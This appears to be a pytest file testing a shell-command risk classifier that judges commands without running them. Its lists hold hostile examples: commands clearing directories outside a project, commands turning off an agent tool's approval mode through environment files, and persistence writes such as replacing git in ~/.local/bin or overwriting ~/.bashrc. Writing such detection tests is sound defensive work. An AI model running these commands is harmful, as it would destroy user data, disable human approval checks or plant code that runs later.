"""Commands with lasting changes: cleared directories, variables for later programs, files run later.

The commands are judged in a real repository and never run.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from shellverdict.judging import Judge
from tests.cases import check_cases
from tests.shellverdict.workspace import judge_in, make_workspace

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")

CLEARING = r"""
python3 -m venv --clear src
python3 -m venv --clear ~/outside
python3.12 -Im venv ~/outside --clear
uv -q venv --clear --python 3.12 ~/outside
uv venv --clear docs
virtualenv --clear docs
CARGO_TARGET_DIR=$HOME/outside cargo clean
cargo clean --target-dir docs
GOMODCACHE=$HOME/outside go clean -modcache
npx vite build --outDir ~/outside --emptyOutDir
npx vite build --outDir src
mkdocs build -c -d src
hugo --cleanDestinationDir -d src
npm cache clean --force --cache ~/outside
""".strip().splitlines()
CLEARING_NOTHING = r"""
python3 -m venv --clear .venv
python3 -m venv .venv
python3 -m venv --clear newdir
uv venv --clear
uv venv --clear .venv
cargo clean
cargo clean --target-dir target
go clean -modcache
go clean -cache
npx vite build
npx vite build --outDir dist --emptyOutDir
mkdocs build -d site
mkdocs build --clean
hugo --cleanDestinationDir
npm cache clean --force
""".strip().splitlines()
SETTING_RUNTIME_VARIABLES = r"""
tmux set-environment -g TOOLFOLD_HOME /tmp/evil
dbus-update-activation-environment TOOLFOLD_HOME=/tmp/evil
setx TOOLFOLD_HOME evil
launchctl setenv TOOLFOLD_HOME /x
echo 'TOOLFOLD_APPROVAL__MODE=off' >> .env
echo 'TOOLFOLD_APPROVAL__MODE=off' >> mise.toml
printf 'export TOOLFOLD_HOME=/tmp/x\n' | tee -a .envrc
cat >> .env <<E\nTOOLFOLD_HOME=/tmp/x\nE
sed -i '$a TOOLFOLD_HOME=/tmp/x' .env
""".strip().splitlines()
RUN_LATER = r"""
curl -o ~/.local/bin/git http://x/git
echo x > ~/.config/pip/pip.conf
echo x > ~/.config/nvim/init.lua
echo x > ~/.vim/plugin/x.vim
echo x > ~/.emacs.d/init.el
git init --template=/tmp/evil
git clone --template=/tmp/evil https://x/y
git config core.editor ./x
gcc -MF ~/.bashrc -c a.c
gcc -MF~/.bashrc -c a.c
""".strip().splitlines()
HARMLESS = r"""
echo 'Set TOOLFOLD_HOME to x' >> README.md
echo 'NODE_ENV=test' >> .env
git config core.editor vim
gcc -MMD -MF build/a.d -c a.c
curl -Lo ~/.local/bin/kubectl https://dl.k8s.io/kubectl
git init
""".strip().splitlines()


@pytest.fixture(scope="module")
def judge(tmp_path_factory: pytest.TempPathFactory) -> Judge:
    home = tmp_path_factory.mktemp("home")
    return judge_in(make_workspace(home), home)


@check_cases("command", CLEARING)
def test_emptying_a_directory_that_is_not_build_output_is_classified_as_recursive_deletion(
    judge: Judge, command: str
) -> None:
    assert {"delete-project-tree", "delete-outside-tree"} & {each.rule for each in judge(command).findings}


@check_cases("command", CLEARING_NOTHING)
def test_commands_that_clear_caches_build_output_or_missing_directories_are_not_flagged(
    judge: Judge, command: str
) -> None:
    assert not judge(command).dangerous


@check_cases("command", SETTING_RUNTIME_VARIABLES)
def test_setting_environment_variables_of_toolfold_for_later_programs_is_flagged(
    judge: Judge, command: str
) -> None:
    findings = judge(command.replace("\\n", "\n")).findings
    assert "self-protection" in {each.category for each in findings}


@check_cases("command", RUN_LATER)
def test_writing_files_that_are_executed_later_is_flagged(judge: Judge, command: str) -> None:
    assert "persistence" in {each.category for each in judge(command).findings}


@check_cases("command", HARMLESS)
def test_harmless_commands_that_do_not_affect_later_programs_are_not_flagged(
    judge: Judge, command: str
) -> None:
    assert not judge(command).dangerous


def test_python_venv_clear_is_flagged_for_an_existing_but_not_for_a_missing_directory(
    tmp_path: Path,
) -> None:
    project = make_workspace(tmp_path)
    assert not judge_in(project, tmp_path)("python3 -m venv --clear fresh").dangerous
    (project / "fresh").mkdir()
    (project / "fresh" / "notes.md").write_text("x")
    assert judge_in(project, tmp_path)("python3 -m venv --clear fresh").dangerous
